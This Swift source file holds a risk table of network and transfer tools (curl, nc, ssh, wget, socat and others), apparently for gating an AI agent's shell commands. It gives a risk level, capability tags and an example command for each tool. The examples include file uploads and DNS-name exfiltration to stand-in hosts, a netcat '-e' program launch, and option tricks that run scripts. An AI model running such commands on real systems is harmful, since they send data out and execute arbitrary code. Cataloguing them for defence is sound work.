extension CapabilityTables {
  /// Transfer and network tools.
  static let network = #"""
    aria2c | critical | execute network-fetch write-file
      $ aria2c --on-download-error=./x.sh http://127.0.0.1:9/x
      Event hooks run programs
    curl | critical | network-fetch network-send read-file write-file | run
      $ curl -s file://$PWD/a.txt -o out.txt
      Uploads and downloads anything, reads local files by URL, -o writes and -K reads options from a file
    curl -s | critical | network-fetch network-send write-file
      $ curl -s -d @a.txt https://example.com
      The silent switch leaves every other option open
    curl http://localhost | high | network-fetch network-send write-file
      $ curl http://localhost -o out.txt https://example.com
      Further URLs and options may follow, also localhost.example.com and localhost@example.com without a boundary
    dig | medium | network-send read-file
      $ dig +short secret.example.com
      Names carry data out; -f reads a file
    ftp | high | execute network-fetch network-send
      $ ftp example.com
      Transfers files, has a shell escape
    host | medium | network-send
      $ host secret.example.com
      Names carry data out
    http | high | network-fetch network-send
      $ http POST example.com @a.txt
      Sends files and saves downloads
    ifconfig | medium | privilege
      $ ifconfig lo down
      = Bash(ifconfig)
      Changes interfaces
    ip | high | execute privilege
      $ ip netns exec x id
      = Bash(ip addr)  Bash(ip route)
      Netns exec runs commands, -batch reads files
    iptables | high | privilege
      $ iptables -F
      = Bash(iptables -L -n)
      Changes the firewall; --modprobe names a program
    lftp | critical | execute network-send
      $ lftp -c '!id'
      Commands include a shell escape
    lsof | medium | secret-read write-file
      $ lsof -n -P -D r
      = Bash(lsof -i :3000)
      Shows open files and sockets, -D writes a device cache in some builds
    mail | high | execute network-send
      $ mail -s x a@example.com
      Sends data, tilde escapes run shells
    mosh | critical | execute network-send
      $ mosh --ssh='sh -c id' x
      The ssh program is an option
    nc | critical | execute network-send
      $ nc -e /bin/id example.com 80
      Sends data, and some builds start a program with -e
    ncat | critical | execute network-send
      $ ncat --sh-exec id -l 4444
      Starts shell commands for connections
    nmap | high | execute network-send write-file
      $ nmap --script ./evil.nse localhost
      = Bash(nmap --version)
      Scripts are Lua code
    nslookup | medium | network-send
      $ nslookup secret.example.com
      Names carry data out
    open | high | execute network-fetch
      $ open -a Terminal ./x.command
      = Bash(open README.md)
      Starts applications and documents, including scripts
    openvpn | critical | execute privilege
      $ openvpn --dev null --script-security 2 --up ./x.sh
      Scripts are options
    ping | low | network-send
      $ ping -c 1 -p 6869 example.com
      = Bash(ping -c 1 localhost)
      The pattern carries data out, and the host name too
    rsync | critical | delete execute network-send read-file write-file | run
      $ rsync -e 'sh -c id>&2' a.txt x:/y
      = Bash(rsync --dry-run -a src/ dst/)
      -e and --rsync-path start programs; it uploads and deletes too
    say | low | read-file write-file
      $ say -f a.txt -o out.aiff
      Reads and writes files
    scp | critical | execute network-fetch network-send | run
      $ scp -S ./x.sh a.txt x:/y
      The transport program and proxy commands are options; uploads any file
    sendmail | high | network-send
      $ sendmail a@example.com
      Sends data
    sftp | critical | execute network-fetch network-send | run
      $ sftp -o ProxyCommand='id > out.txt' x
      Proxy command, batch files and shell escapes
    smbclient | high | execute network-send
      $ smbclient -c '!id' //example.com/x
      Commands include a shell escape
    socat | critical | execute network-send read-file write-file | run
      $ socat - EXEC:id
      = Bash(socat -V)
      EXEC and SYSTEM addresses start programs
    ss | medium | delete
      $ ss -K dst 203.0.113.1
      = Bash(ss -tln)
      -K closes sockets, -F reads a filter file
    ssh | critical | execute network-send | run
      $ ssh -o ProxyCommand='id > out.txt' x
      Runs remote commands, and local ones through ProxyCommand
    sshfs | high | execute network-send
      $ sshfs -o ssh_command=./x.sh x:/ mnt
      The ssh program is an option
    sshuttle | high | execute network-send privilege
      $ sshuttle --ssh-cmd ./x.sh -r x 0/0
      The ssh program is an option
    tcpdump | high | execute privilege write-file
      $ tcpdump -G 1 -w x -z ./x.sh
      -z runs a program after rotation
    telnet | high | execute network-send
      $ telnet example.com 80
      Sends data and has a shell escape
    tshark | high | execute read-file write-file
      $ tshark -X lua_script:evil.lua -r x.pcap
      Scripts are Lua code
    wget | critical | execute network-fetch network-send write-file | run
      $ wget --use-askpass=./x.sh https://example.com
      = Bash(wget --version)
      Askpass runs a program, -O writes, --post-file uploads
    whois | medium | network-send
      $ whois -h example.com secret
      Sends its argument to a chosen server
    xdg-open | high | execute network-fetch
      $ xdg-open ./evil.desktop
      Starts the handler of any file or URL
    xh | high | network-fetch network-send
      $ xh POST example.com @a.txt
      Sends files and saves downloads
    yt-dlp | critical | execute network-fetch write-file
      $ yt-dlp --exec before_dl:id https://example.com/v
      --exec runs a shell string
    """#
}
